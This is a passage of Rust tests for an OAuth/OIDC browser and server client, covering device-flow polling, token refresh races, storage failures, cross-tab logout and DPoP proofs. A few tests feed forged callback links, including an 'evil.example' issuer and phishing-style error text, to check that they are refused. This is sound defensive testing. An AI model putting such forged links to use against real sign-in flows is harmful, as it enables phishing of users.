fn device_harness() -> (Harness, wasm_oauth::core::device::DeviceAuthorization) {
    let h = harness();
    h.http.answer_at(DEVICE_URL, 200, DEVICE_BODY);
    let d = block_on(h.client.start_device_authorization(Some("openid"))).unwrap();
    (h, d)
}

#[test]
fn device_polling_waits_the_interval_slows_down_and_stores_tokens() {
    let (h, d) = device_harness();
    assert_eq!(d.user_code, "ABC123");
    let form = parse_pairs(h.http.sent()[0].form.as_deref().unwrap()).unwrap();
    assert_eq!(find(&form, "client_id"), Some(CLIENT_ID));
    assert!(
        find(&form, "client_secret").is_none(),
        "a browser sends no secret"
    );
    h.http.answer(400, r#"{"error":"authorization_pending"}"#);
    h.http.answer(400, r#"{"error":"slow_down"}"#);
    h.http.answer(400, r#"{"error":"authorization_pending"}"#);
    h.http.answer(
        200,
        r#"{"access_token":"DEV-AT","token_type":"Bearer","expires_in":3600}"#,
    );
    let abort = FakeAbort::on(&h, None);
    let tokens = block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap();
    assert_eq!(tokens.access_token, "DEV-AT");
    assert_eq!(h.client.tokens().unwrap().access_token, "DEV-AT");
    // Polls at +5 s, +10 s, then slow_down: +20 s, +30 s.
    assert_eq!(h.clock.get(), NOW + 30_000);
    let polls = h.http.count_to(TOKEN_URL);
    assert_eq!(polls, 4);
}

#[test]
fn a_client_without_redirect_uri_uses_device_sign_in_but_cannot_log_in() {
    let h = harness_with(AuthClientOptions {
        redirect_uri: None,
        ..options()
    });
    for implicit in [None, Some(ImplicitType::IdTokenToken)] {
        let e = block_on(h.client.start_login(&LoginRequest::default(), implicit)).unwrap_err();
        assert_eq!(e.code(), "invalid_options");
        assert_eq!(e.option_name(), Some("redirectUri"));
    }
    assert!(h.http.sent().is_empty(), "a refused login sends nothing");
    h.http.answer_at(DEVICE_URL, 200, DEVICE_BODY);
    let d = block_on(h.client.start_device_authorization(Some("openid"))).unwrap();
    h.http.answer(
        200,
        r#"{"access_token":"DEV-AT","token_type":"Bearer","expires_in":3600}"#,
    );
    let abort = FakeAbort::on(&h, None);
    let tokens = block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap();
    assert_eq!(tokens.access_token, "DEV-AT");
}

#[test]
fn device_denied_expired_and_aborted() {
    let (h, d) = device_harness();
    h.http.answer(400, r#"{"error":"access_denied"}"#);
    let abort = FakeAbort::on(&h, None);
    let e = block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap_err();
    assert_eq!(e.code(), "access_denied");

    let (h, d) = device_harness();
    for _ in 0..59 {
        h.http.answer(400, r#"{"error":"authorization_pending"}"#);
    }
    let abort = FakeAbort::on(&h, None);
    let e = block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap_err();
    assert_eq!(e.code(), "expired_token");
    assert!(h.clock.get() <= NOW + 300_000);

    let (h, d) = device_harness();
    let abort = FakeAbort::on(&h, Some(NOW + 2_000));
    let e = block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap_err();
    assert_eq!(e.code(), "aborted");
    assert_eq!(
        h.http.count_to(TOKEN_URL),
        0,
        "aborted during the first wait: no poll"
    );

    // Aborted while a poll is in flight: the request is cancelled, and the
    // promise does not wait for its answer (nor for the next interval).
    let (h, d) = device_harness();
    let abort = FakeAbort::on(&h, Some(NOW + 5_500));
    let e = block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap_err();
    assert_eq!(e.code(), "aborted");
    assert_eq!(h.clock.get(), NOW + 5_500);
}

#[test]
fn a_sleep_that_does_not_wait_ends_polling_instead_of_spinning() {
    // The runtime's timer returns at once and the clock stands still (a
    // rejected or overflowing setTimeout): the loop must stop, not spin.
    let (h, d) = device_harness();
    let abort = FakeAbort {
        stalls: true,
        ..FakeAbort::on(&h, None)
    };
    let e = block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap_err();
    assert_eq!(e.code(), "timeout");
    assert!(abort.sleeps.borrow().len() <= 3, "{:?}", abort.sleeps);
    assert_eq!(h.http.count_to(TOKEN_URL), 0, "no poll before the interval");
}

#[test]
fn a_clock_set_back_a_month_while_polling_keeps_the_interval() {
    const MONTH: u64 = 30 * 24 * 3600 * 1000;
    let (h, d) = device_harness();
    h.http.answer(400, r#"{"error":"authorization_pending"}"#);
    h.http.answer(
        200,
        r#"{"access_token":"DEV-AT","token_type":"Bearer","expires_in":3600}"#,
    );
    let abort = FakeAbort::on(&h, None);
    abort.set_back_ms.set(Some(MONTH));
    let tokens = block_on(h.client.poll_device_token(&d, NOW, &abort)).unwrap();
    assert_eq!(tokens.access_token, "DEV-AT");
    // Each wait is one interval: none is a month long, and none is skipped.
    assert_eq!(*abort.sleeps.borrow(), vec![5_000, 5_000]);
    assert_eq!(h.clock.get(), NOW - MONTH + 10_000);
}

// ---- Server runtimes ----

fn server_harness() -> Harness {
    let mut o = options();
    o.client_secret = Some("s3cret".into());
    let mut f = fakes();
    f.runtime = FakeRuntime(false);
    harness_on(o, f)
}

#[test]
fn client_credentials_are_cached_until_shortly_before_expiry() {
    let h = server_harness();
    h.http.answer(
        200,
        r#"{"access_token":"CC-1","token_type":"Bearer","expires_in":3600}"#,
    );
    assert_eq!(
        block_on(h.client.client_credentials(Some("api:read")))
            .unwrap()
            .access_token,
        "CC-1"
    );
    assert_eq!(
        block_on(h.client.client_credentials(Some("api:read")))
            .unwrap()
            .access_token,
        "CC-1"
    );
    assert_eq!(h.http.count_to(TOKEN_URL), 1);
    let form = parse_pairs(h.http.sent()[0].form.as_deref().unwrap()).unwrap();
    assert_eq!(find(&form, "grant_type"), Some("client_credentials"));
    assert_eq!(find(&form, "client_secret"), Some("s3cret"));
    h.clock.set(NOW + 3_600_000 - 20_000);
    h.http.answer(
        200,
        r#"{"access_token":"CC-2","token_type":"Bearer","expires_in":3600}"#,
    );
    assert_eq!(
        block_on(h.client.client_credentials(Some("api:read")))
            .unwrap()
            .access_token,
        "CC-2"
    );
}

#[test]
fn service_token_exchange_sends_the_assertion() {
    let h = server_harness();
    h.http.answer(
        200,
        r#"{"access_token":"SVC","token_type":"Bearer","expires_in":3600,"scope":"api:read"}"#,
    );
    let t = block_on(h.client.exchange_service_token("a.b.c", Some("api:read"))).unwrap();
    assert_eq!(t.access_token, "SVC");
    let form = parse_pairs(h.http.sent()[0].form.as_deref().unwrap()).unwrap();
    assert_eq!(
        find(&form, "grant_type"),
        Some("urn:ietf:params:oauth:grant-type:jwt-bearer")
    );
    assert_eq!(find(&form, "assertion"), Some("a.b.c"));
    let e = block_on(h.client.exchange_service_token("not-a-jwt", None)).unwrap_err();
    assert_eq!(e.code(), "invalid_options");
}

#[test]
fn secret_grants_are_refused_in_a_browser_before_any_request() {
    let mut o = options();
    o.client_secret = Some("s3cret".into());
    let h = harness_with(o); // fakes() says: a browser
    let e = block_on(h.client.client_credentials(None)).unwrap_err();
    assert_eq!(e.code(), "secret_in_browser");
    let e = block_on(h.client.exchange_service_token("a.b.c", None)).unwrap_err();
    assert_eq!(e.code(), "secret_in_browser");
    assert!(h.http.sent().is_empty());
}

// ---- Storage that fails ----

/// Storage whose writes fail once `full` is set (quota exceeded).
#[derive(Clone, Default)]
struct FullStorage {
    inner: SharedStorage,
    full: Rc<Cell<bool>>,
}

#[test]
fn quota_exceeded_on_refresh_keeps_the_new_tokens_in_memory() {
    let h = harness();
    signed_in(&h);
    let full = FullStorage {
        inner: h.storage.clone(),
        full: Rc::new(Cell::new(true)),
    };
    // The same client state, but writes now fail.
    let e = full.set("k", "v").unwrap_err();
    assert_eq!(e.code(), "storage_unavailable");
    let f = fakes();
    let (http, events) = (f.http.clone(), f.events.0.clone());
    let c = Client::new(
        Config::from_options(options(), &WhatwgUrl).unwrap(),
        f.with_storage(full.clone()),
    );
    http.answer(
        200,
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#,
    );
    // The provider rotated RT-1 into RT-2: the new set must not be lost
    // because the storage is full. The app hears of the refused write.
    assert_eq!(block_on(c.access_token(30, true)).unwrap(), "AT-2");
    assert_eq!(
        *events.borrow(),
        vec!["error:storage_unavailable".to_string(), "tokens:4".into()]
    );
    let held = c.tokens().unwrap();
    assert_eq!(held.access_token, "AT-2");
    assert_eq!(
        held.refresh_token.as_ref().map(RefreshToken::secret),
        Some("RT-2")
    );
    assert!(c.is_authenticated());
    let tokens_key = format!("{KEY_PREFIX}{CLIENT_ID}:tokens");
    assert!(
        h.storage.get(&tokens_key).unwrap().contains("AT-1"),
        "the refused write left storage as it was"
    );

    // The next refresh sends the rotated token; once storage has room
    // again the set is written and memory no longer overrides it.
    full.full.set(false);
    http.answer(
        200,
        r#"{"access_token":"AT-3","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-3"}"#,
    );
    assert_eq!(block_on(c.access_token(30, true)).unwrap(), "AT-3");
    let form = parse_pairs(http.sent().last().unwrap().form.as_deref().unwrap()).unwrap();
    assert_eq!(find(&form, "refresh_token"), Some("RT-2"));
    assert!(h.storage.get(&tokens_key).unwrap().contains("AT-3"));

    // Logging out forgets what memory held, too.
    full.full.set(true);
    http.answer(
        200,
        r#"{"access_token":"AT-4","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-4"}"#,
    );
    assert_eq!(block_on(c.access_token(30, true)).unwrap(), "AT-4");
    assert_eq!(c.tokens().unwrap().access_token, "AT-4");
    // Another tab then writes a newer entry: storage wins over memory again.
    let newer = h.storage.get(&tokens_key).unwrap().replace("AT-3", "AT-5");
    full.inner.set(&tokens_key, &newer).unwrap();
    assert_eq!(c.tokens().unwrap().access_token, "AT-5");
    assert_eq!(c.tokens().unwrap().access_token, "AT-5", "and stays so");
    http.answer_at(REVOKE_URL, 200, "");
    http.answer_at(REVOKE_URL, 200, "");
    block_on(c.logout(false, None)).unwrap();
    assert!(c.tokens().is_none(), "no token set survives logout");
}

impl Storage for FullStorage {
    fn get(&self, key: &str) -> Option<String> {
        self.inner.get(key)
    }
    fn set(&self, key: &str, value: &str) -> Result<(), AuthError> {
        if self.full.get() {
            return Err(AuthError::new(
                ErrorCode::StorageUnavailable,
                "quota exceeded",
            ));
        }
        self.inner.set(key, value)
    }
    fn remove(&self, key: &str) {
        self.inner.remove(key)
    }
    fn keys_with_prefix(&self, prefix: &str) -> Vec<String> {
        self.inner.keys_with_prefix(prefix)
    }
    fn is_ready(&self) -> bool {
        true
    }
    async fn ready(&self) -> bool {
        true
    }
    fn deliver_refusals_to(&self, _: Box<dyn Fn(AuthError)>) {}
}

#[test]
fn another_tabs_hand_over_wins_over_a_lagging_storage_copy() {
    let h = harness();
    signed_in(&h);
    let newer = format!(
        r#"{{"v":1,"access_token":"AT-FROM-TAB-B","token_type":"Bearer","expires_at":{},"refresh_token":"RT-9"}}"#,
        NOW + 2 * 3_600_000
    );
    h.tabs.publish_tokens(&newer);
    assert_eq!(h.client.tokens().unwrap().access_token, "AT-FROM-TAB-B");
    h.tabs.publish_logout();
    assert!(
        h.client.tokens().is_none(),
        "a logout in another tab ends the session here"
    );
    assert!(!h.client.is_authenticated());
}

#[test]
fn a_logout_in_another_tab_while_waiting_for_the_lock_is_login_required() {
    let h = harness();
    signed_in(&h);
    h.clock.set(NOW + 3_600_000);
    *h.tabs.arrives_while_waiting.borrow_mut() = None;
    h.tabs.publish_logout();
    let e = block_on(h.client.access_token(30, false)).unwrap_err();
    assert_eq!(e.code(), "login_required");
    assert_eq!(
        h.http.sent().len(),
        1,
        "no refresh with a session another tab ended"
    );
}

#[test]
fn response_mode_fragment_takes_the_code_from_the_fragment_and_refuses_the_query() {
    let h = harness();
    let request = LoginRequest {
        response_mode_fragment: true,
        ..LoginRequest::default()
    };
    let url = block_on(h.client.start_login(&request, None)).unwrap();
    let q = query_pairs(&url);
    assert_eq!(find(&q, "response_mode"), Some("fragment"));
    let state = find(&q, "state").unwrap();
    let nonce = find(&q, "nonce").unwrap();
    h.http.answer(200, &token_body(&good_id_token(nonce)));
    let out = callback(&h, &format!("{REDIRECT}#code=C1&state={state}")).unwrap();
    assert_eq!(out.tokens.access_token, "AT-1");

    let url = block_on(h.client.start_login(&request, None)).unwrap();
    let q = query_pairs(&url);
    let state = find(&q, "state").unwrap();
    let e = callback(&h, &format!("{REDIRECT}?code=C2&state={state}")).unwrap_err();
    assert_eq!(
        e.code(),
        "invalid_response",
        "a query answer to a fragment login is refused"
    );
}

#[test]
fn an_expired_par_request_comes_back_as_the_providers_error_not_a_hang() {
    // RFC 9126 §4 + RFC 9207: the provider cannot know the state of a request
    // it no longer has, so it answers with its error and its issuer only.
    let h = harness();
    start(&h);
    let e = callback(
        &h,
        &format!("{REDIRECT}?error=invalid_request_uri&error_description=request_uri+is+invalid%2C+expired%2C+or+was+already+used&iss=https%3A%2F%2Fauth.example"),
    )
    .unwrap_err();
    assert_eq!(e.code(), "invalid_request_uri");
    assert!(h.http.sent().is_empty());
    assert!(h.client.tokens().is_none());
    let e = callback(
        &h,
        &format!("{REDIRECT}?error=invalid_request_uri&iss=https%3A%2F%2Fevil.example"),
    )
    .unwrap_err();
    assert_eq!(e.code(), "issuer_mismatch");
}

#[test]
fn a_forged_stateless_error_link_carries_no_chosen_code_or_text() {
    // The issuer is public: a link with it and no state proves nothing. Its
    // text never reaches the app, and a code outside the authorization
    // errors (here one imitating the SDK's own) is a plain state_mismatch.
    let h = harness();
    start(&h);
    let e = callback(
        &h,
        &format!("{REDIRECT}?error=nonce_mismatch&error_description=Your+account+is+locked.+Call+555-0100&iss=https%3A%2F%2Fauth.example"),
    )
    .unwrap_err();
    assert_eq!(e.code(), "state_mismatch");
    assert!(e.description().is_none());
    let e = callback(
        &h,
        &format!("{REDIRECT}?error=access_denied&error_description=Call+555-0100&iss=https%3A%2F%2Fauth.example"),
    )
    .unwrap_err();
    assert_eq!(e.code(), "access_denied");
    assert!(
        e.description().is_none(),
        "no attacker text: {:?}",
        e.description()
    );
}

// ---- Races and refresh edge cases (found in review) ----

fn poll_ready<F: Future>(f: &mut Pin<Box<F>>) -> F::Output {
    let mut cx = Context::from_waker(Waker::noop());
    for _ in 0..10_000 {
        if let Poll::Ready(v) = f.as_mut().poll(&mut cx) {
            return v;
        }
    }
    panic!("never completed");
}

/// Signs in, lets the token expire, starts the refresh `answer` answers, logs
/// out (without revocation) while that request is in flight, then lets the
/// answer arrive, with `revocations` answers ready at the revocation
/// endpoint. Returns how the refresh ended.
fn logout_during_refresh(h: &Harness, answer: &str, revocations: usize) -> AuthError {
    signed_in(h);
    h.clock.set(NOW + 3_600_000); // expired: getAccessToken refreshes
    h.http.answer(200, answer);
    logout_while_in_flight(h, h.client.access_token(30, false), revocations)
}

/// Starts `call` while the token endpoint holds its answers, logs out
/// (without revocation) while its request is in flight, then lets the answer
/// arrive, with `revocations` answers ready at the revocation endpoint.
/// Returns how the call ended.
fn logout_while_in_flight(
    h: &Harness,
    call: impl Future<Output = Result<AccessToken, AuthError>>,
    revocations: usize,
) -> AuthError {
    h.http.gate.set(true);
    let mut call = Box::pin(call);
    let mut cx = Context::from_waker(Waker::noop());
    assert!(
        call.as_mut().poll(&mut cx).is_pending(),
        "request in flight"
    );
    block_on(h.client.logout(false, None)).unwrap();
    assert!(h.client.tokens().is_none());
    for _ in 0..revocations {
        h.http.answer_at(REVOKE_URL, 200, "");
    }
    h.http.gate.set(false);
    poll_ready(&mut call).unwrap_err()
}

/// The tokens sent to the revocation endpoint, in order.
fn revoked(h: &Harness) -> Vec<String> {
    h.http
        .sent()
        .iter()
        .filter(|r| r.url == REVOKE_URL)
        .map(|r| {
            find(&parse_pairs(r.form.as_deref().unwrap()).unwrap(), "token")
                .unwrap()
                .to_string()
        })
        .collect()
}

#[test]
fn a_logout_during_a_refresh_is_not_undone_by_its_answer() {
    let h = harness();
    let e = logout_during_refresh(
        &h,
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#,
        2,
    );
    assert_eq!(e.code(), "login_required");
    assert!(
        h.client.tokens().is_none(),
        "session resurrected after logout: {:?} / events {:?}",
        h.client.tokens(),
        h.events.borrow()
    );
    // What the late answer created is revoked, not left alive at the provider.
    assert_eq!(revoked(&h), ["RT-2", "AT-2"]);
}

#[test]
fn a_late_refresh_answer_without_rotation_leaves_the_old_refresh_token_to_the_logout() {
    let h = harness();
    let e = logout_during_refresh(
        &h,
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600}"#,
        1,
    );
    assert_eq!(e.code(), "login_required");
    assert_eq!(
        revoked(&h),
        ["AT-2"],
        "the unrotated refresh token is not revoked"
    );
}

#[test]
fn implicit_token_only_login_completes_with_an_openid_scope() {
    let h = harness(); // scope "openid profile offline_access", like the README default
    let q = start_implicit(&h, ImplicitType::Token);
    assert_eq!(find(&q, "response_type"), Some("token"));
    let state = find(&q, "state").unwrap();
    // response_type=token: OAuth 2.0 implicit, never an ID token.
    let cb = format!(
        "{REDIRECT}#access_token=IMPLICIT-AT&token_type=Bearer&expires_in=3600&state={state}"
    );
    assert_eq!(
        find(&q, "nonce"),
        None,
        "no ID token can come back, so no nonce"
    );
    let out = callback(&h, &cb);
    assert!(
        out.is_ok(),
        "token-only implicit login failed: {:?}",
        out.err().map(|e| e.code().to_string())
    );
    assert_eq!(h.client.tokens().unwrap().access_token, "IMPLICIT-AT");
}

/// Queues a refresh answer (access token AT-2, rotated refresh token RT-2)
/// whose new ID token names the key `k2`, which the cached JWKS lacks: the
/// client must fetch the JWKS again to check it.
fn answer_refresh_signed_with_a_new_key(h: &Harness) {
    let claims = claims_at("ignored", NOW / 1000 + 10).replace(",\"nonce\":\"ignored\"", "");
    let new_id = jwt(r#"{"alg":"RS256","kid":"k2"}"#, &claims, GOOD_SIGNATURE);
    h.http.answer(
        200,
        &format!(r#"{{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2","id_token":"{new_id}"}}"#),
    );
}

#[test]
fn a_refresh_whose_id_token_cannot_be_checked_keeps_the_rotated_refresh_token() {
    let h = harness();
    signed_in(&h);
    // The provider rotates its signing key; the refreshed ID token names k2,
    // so the JWKS is refetched, and that fetch fails (network blip).
    answer_refresh_signed_with_a_new_key(&h);
    h.http.jwks_down.set(true);
    let e = block_on(h.client.access_token(30, true)).unwrap_err();
    assert_eq!(e.code(), "network_error");
    // README: network_error => "retry later; tokens are kept". Retry:
    h.http.jwks_down.set(false);
    h.http.answer(
        400,
        r#"{"error":"invalid_grant","error_description":"refresh token reused"}"#,
    );
    let _ = block_on(h.client.access_token(30, true));
    let sent = h.http.sent();
    let form = parse_pairs(sent.last().unwrap().form.as_deref().unwrap()).unwrap();
    assert_eq!(
        find(&form, "refresh_token"),
        Some("RT-2"),
        "the retry sent the already-rotated refresh token; session now: {:?}",
        h.client.tokens()
    );
}

#[test]
fn a_jwks_endpoint_answering_an_oauth_error_ends_no_session() {
    // A server's `login_required` is no verdict of the SDK's about the
    // session: the ID token simply cannot be checked.
    let h = harness();
    signed_in(&h);
    answer_refresh_signed_with_a_new_key(&h);
    *h.http.jwks_answer.borrow_mut() = Some((400, r#"{"error":"login_required"}"#.into()));
    let e = block_on(h.client.access_token(30, true)).unwrap_err();
    assert_eq!(e.code(), "invalid_id_token");
    let kept = h.client.tokens().expect("the session is kept");
    assert_eq!(
        kept.refresh_token.as_ref().map(RefreshToken::secret),
        Some("RT-2")
    );
    assert!(!h.events.borrow().iter().any(|e| e == "logout"));
}

/// Two clients over the same storage and no cross-tab lock (per-tab
/// storage: two AuthClient instances in one page, or no Web Locks), the
/// harness's signed in.
fn signed_in_beside_another_client() -> (Harness, TestClient) {
    let f = fakes();
    let h = harness_on(options(), f.clone());
    signed_in(&h);
    let other = Client::new(Config::from_options(options(), &WhatwgUrl).unwrap(), f);
    (h, other)
}

/// Starts `first`, then `second`, each sending RT-1, while the token
/// endpoint holds its answers; then the first is answered with a rotation
/// to RT-2 and the second with `invalid_grant`. Returns how each ended.
fn first_rotates_and_second_is_refused(
    h: &Harness,
    first: impl Future<Output = Result<AccessToken, AuthError>>,
    second: impl Future<Output = Result<AccessToken, AuthError>>,
) -> (
    Result<AccessToken, AuthError>,
    Result<AccessToken, AuthError>,
) {
    h.http.gate.set(true);
    let (mut first, mut second) = (Box::pin(first), Box::pin(second));
    let mut cx = Context::from_waker(Waker::noop());
    assert!(first.as_mut().poll(&mut cx).is_pending());
    assert!(second.as_mut().poll(&mut cx).is_pending());
    h.http.answer(
        200,
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#,
    );
    h.http.answer(400, r#"{"error":"invalid_grant"}"#);
    h.http.gate.set(false);
    (poll_ready(&mut first), poll_ready(&mut second))
}

#[test]
fn invalid_grant_after_another_client_rotated_keeps_its_session() {
    let (h, other) = signed_in_beside_another_client();
    h.clock.set(NOW + 3_600_000);
    // Both start a refresh with RT-1; the first wins and rotates, the second
    // gets invalid_grant.
    let (ra, rb) = first_rotates_and_second_is_refused(
        &h,
        h.client.access_token(30, false),
        other.access_token(30, false),
    );
    assert_eq!(ra.unwrap(), "AT-2");
    assert!(
        h.client.tokens().is_some(),
        "the good rotated session was deleted by the loser's invalid_grant ({:?})",
        rb.map_err(|e| e.code().to_string())
    );
}

#[test]
fn a_refreshed_id_token_for_another_user_ends_the_session() {
    let h = harness();
    signed_in(&h);
    let claims = claims_at("x", NOW / 1000)
        .replace(",\"nonce\":\"x\"", "")
        .replace("urn:xeonr:user:alice", "urn:xeonr:user:mallory");
    let other = id_token(&claims);
    h.http.answer(
        200,
        &format!(r#"{{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2","id_token":"{other}"}}"#),
    );
    let r = block_on(h.client.access_token(30, true));
    assert_eq!(
        r.map_err(|e| e.code().to_string()),
        Err("login_required".to_string()),
        "a refreshed ID token about another user was accepted"
    );
    assert!(h.client.tokens().is_none(), "the session ended");
    assert_eq!(
        h.events.borrow().last().map(String::as_str),
        Some("error:login_required")
    );
}

// ---- Expiry events ----

/// The events told so far whose names start with `prefix`.
fn told(h: &Harness, prefix: &str) -> Vec<String> {
    h.events
        .borrow()
        .iter()
        .filter(|e| e.starts_with(prefix))
        .cloned()
        .collect()
}

#[test]
fn token_expiring_and_expired_are_told_once_each_on_the_wall_clock() {
    let h = harness();
    signed_in(&h);
    let expires_at = h.client.tokens().unwrap().expires_at_ms.unwrap();
    h.clock.set(expires_at - 61_000);
    block_on(h.client.on_clock(true));
    assert!(told(&h, "expiring").is_empty() && told(&h, "expired").is_empty());
    h.clock.set(expires_at - 60_000);
    block_on(h.client.on_clock(true));
    block_on(h.client.on_clock(true));
    assert_eq!(told(&h, "expiring"), vec![format!("expiring:{expires_at}")]);
    h.clock.set(expires_at);
    block_on(h.client.on_clock(false));
    block_on(h.client.on_clock(false));
    assert_eq!(told(&h, "expired"), vec!["expired".to_string()]);
    assert!(h.http.sent().len() == 1, "no refresh without autoRefresh");
}

#[test]
fn a_page_asleep_past_expiry_hears_expired_once_and_never_expiring() {
    let h = harness();
    signed_in(&h);
    let expires_at = h.client.tokens().unwrap().expires_at_ms.unwrap();
    block_on(h.client.on_clock(true));
    // The laptop sleeps three hours; the page wakes up (visibility, focus).
    h.clock.set(expires_at + 3 * 3_600_000);
    block_on(h.client.on_clock(true));
    block_on(h.client.on_clock(true));
    assert!(told(&h, "expiring").is_empty(), "{:?}", h.events.borrow());
    assert_eq!(told(&h, "expired"), vec!["expired".to_string()]);
}

#[test]
fn auto_refresh_renews_an_expiring_token_only_while_the_page_is_visible() {
    let mut o = options();
    o.auto_refresh = Some(true);
    let h = harness_with(o);
    signed_in(&h);
    let expires_at = h.client.tokens().unwrap().expires_at_ms.unwrap();
    h.clock.set(expires_at - 30_000);
    block_on(h.client.on_clock(false));
    assert_eq!(h.http.sent().len(), 1, "a hidden page does not refresh");
    let h = harness_with({
        let mut o = options();
        o.auto_refresh = Some(true);
        o
    });
    signed_in(&h);
    let expires_at = h.client.tokens().unwrap().expires_at_ms.unwrap();
    h.http.answer(
        200,
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#,
    );
    h.clock.set(expires_at - 30_000);
    block_on(h.client.on_clock(true));
    let refreshed = h.client.tokens().unwrap();
    assert_eq!(refreshed.access_token, "AT-2");
    assert!(refreshed.expires_at_ms.unwrap() > expires_at);
}

mod dpop {
    //! DPoP (RFC 9449): proofs on token requests, nonces, token types, the key's lifetime.
    use super::*;

    /// RFC 7638 thumbprint of the fake key (RFC 9449's example key).
    const JKT: &str = "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I";

    fn dpop_harness() -> Harness {
        harness_with(AuthClientOptions {
            dpop: Some(true),
            ..options()
        })
    }

    fn dpop_body(id_token: &str) -> String {
        token_body(id_token).replace("\"Bearer\"", "\"DPoP\"")
    }

    /// The header and claims of a proof, checked for its signature.
    fn proof(request: &HttpRequest) -> (serde_json::Value, serde_json::Value) {
        use base64::Engine;
        let proof = request.dpop.as_deref().expect("a DPoP proof");
        let parts: Vec<&str> = proof.split('.').collect();
        assert_eq!(parts.len(), 3);
        let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
        assert_eq!(b64.decode(parts[2]).unwrap(), DPOP_SIGNATURE);
        let json = |p: &str| serde_json::from_slice(&b64.decode(p).unwrap()).unwrap();
        (json(parts[0]), json(parts[1]))
    }

    const USE_NONCE: &str = r#"{"error":"use_dpop_nonce","error_description":"nonce required"}"#;

    #[test]
    fn a_dpop_login_binds_the_code_and_proves_the_key_at_the_token_endpoint() {
        let h = dpop_harness();
        let (params, state, nonce) = start(&h);
        // RFC 9449 §10: the authorization code is bound to the key.
        assert_eq!(find(&params, "dpop_jkt"), Some(JKT));
        h.http.answer(200, &dpop_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        let sent = h.http.sent();
        let (header, claims) = proof(&sent[0]);
        assert_eq!(header["typ"], "dpop+jwt");
        assert_eq!(header["alg"], "ES256");
        assert_eq!(
            header["jwk"]["x"],
            "l8tFrhx-34tV3hRICRDY9zCkDlpBhF42UQUfWVAWBFs"
        );
        assert_eq!(claims["htm"], "POST");
        assert_eq!(claims["htu"], TOKEN_URL);
        assert_eq!(claims["iat"].as_f64(), Some((NOW / 1000) as f64));
        assert!(claims["jti"].as_str().is_some_and(|j| j.len() >= 16));
        assert!(claims.get("nonce").is_none() && claims.get("ath").is_none());
        assert_eq!(h.client.tokens().unwrap().token_type, "DPoP");
    }

    #[test]
    fn without_dpop_nothing_carries_a_proof_or_a_thumbprint() {
        let h = harness();
        let (params, state, nonce) = start(&h);
        assert_eq!(find(&params, "dpop_jkt"), None);
        h.http.answer(200, &token_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        assert!(h.http.sent().iter().all(|r| r.dpop.is_none()));
    }

    #[test]
    fn a_bearer_answer_to_a_dpop_exchange_stores_nothing() {
        let h = dpop_harness();
        let (_, state, nonce) = start(&h);
        h.http.answer(200, &token_body(&good_id_token(&nonce)));
        let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
        assert_eq!(e.code(), "invalid_response");
        assert!(h.client.tokens().is_none());
    }

    #[test]
    fn use_dpop_nonce_is_retried_once_with_the_servers_nonce() {
        let h = dpop_harness();
        let (_, state, nonce) = start(&h);
        h.http.answer_with_nonce(TOKEN_URL, 400, USE_NONCE, "n-1");
        h.http.answer(200, &dpop_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        let sent = h.http.sent();
        assert_eq!(sent.len(), 2);
        let (_, first) = proof(&sent[0]);
        let (_, second) = proof(&sent[1]);
        assert!(first.get("nonce").is_none());
        assert_eq!(second["nonce"], "n-1");
        assert_ne!(first["jti"], second["jti"], "a proof is never reused");
        assert_eq!(sent[0].form, sent[1].form);
    }

    #[test]
    fn a_server_that_keeps_asking_for_a_nonce_gets_one_retry_then_its_own_error() {
        let h = dpop_harness();
        let (_, state, _) = start(&h);
        h.http.answer_with_nonce(TOKEN_URL, 400, USE_NONCE, "n-1");
        h.http.answer_with_nonce(TOKEN_URL, 400, USE_NONCE, "n-2");
        let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
        assert_eq!(e.code(), "use_dpop_nonce");
        assert_eq!(h.http.sent().len(), 2);
    }

    #[test]
    fn use_dpop_nonce_without_a_usable_nonce_is_not_retried() {
        let h = dpop_harness();
        let (_, state, _) = start(&h);
        h.http
            .answer_with_nonce(TOKEN_URL, 400, USE_NONCE, "not a nonce");
        let e = callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap_err();
        assert_eq!(e.code(), "use_dpop_nonce");
        assert_eq!(h.http.sent().len(), 1);
    }

    #[test]
    fn a_refresh_is_proved_with_the_newest_nonce_of_the_token_endpoint() {
        let h = dpop_harness();
        let (_, state, nonce) = start(&h);
        h.http
            .answer_with_nonce(TOKEN_URL, 200, &dpop_body(&good_id_token(&nonce)), "n-7");
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        h.clock.set(NOW + 3_600_000 - 10_000);
        h.http.answer(
            200,
            r#"{"access_token":"AT-2","token_type":"DPoP","expires_in":3600,"refresh_token":"RT-2"}"#,
        );
        assert_eq!(block_on(h.client.access_token(30, false)).unwrap(), "AT-2");
        let sent = h.http.sent();
        let form = parse_pairs(sent[1].form.as_deref().unwrap()).unwrap();
        assert_eq!(find(&form, "grant_type"), Some("refresh_token"));
        let (_, claims) = proof(&sent[1]);
        assert_eq!(claims["nonce"], "n-7");
        assert_eq!(
            claims["iat"].as_f64(),
